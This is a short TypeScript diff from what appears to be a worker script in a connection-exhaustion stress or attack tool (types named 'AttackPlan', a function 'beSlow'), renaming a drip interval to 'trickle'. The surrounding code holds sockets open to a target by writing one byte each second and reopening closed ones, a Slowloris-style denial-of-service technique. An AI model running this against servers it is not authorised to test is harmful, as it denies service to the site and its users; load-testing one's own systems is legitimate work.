@@ -26,7 +26,7 @@ export interface AttackFigures {
 const plan = workerData as AttackPlan;
 const { hostname, port, host } = new URL(plan.url);
 const TIMEOUT_MS = 30_000;
-const DRIP_MS = 1_000;
+const TRICKLE_MS = 1_000;
 const REOPEN_MS = 1_000;
 
 const outcomes: Record<string, number> = {};
@@ -80,15 +80,15 @@ async function beSlow(place: number): Promise<void> {
       socket.write(opening());
     });
     socket.resume();
-    const drip = setInterval(() => {
+    const trickle = setInterval(() => {
       if (isOver) {
         socket.destroy();
       } else if (!isSilent) {
         socket.write('x');
       }
-    }, DRIP_MS);
+    }, TRICKLE_MS);
     await gone.promise;
-    clearInterval(drip);
+    clearInterval(trickle);
     closed += isOver ? 0 : 1;
     await delay(isOver ? 0 : REOPEN_MS);
   }
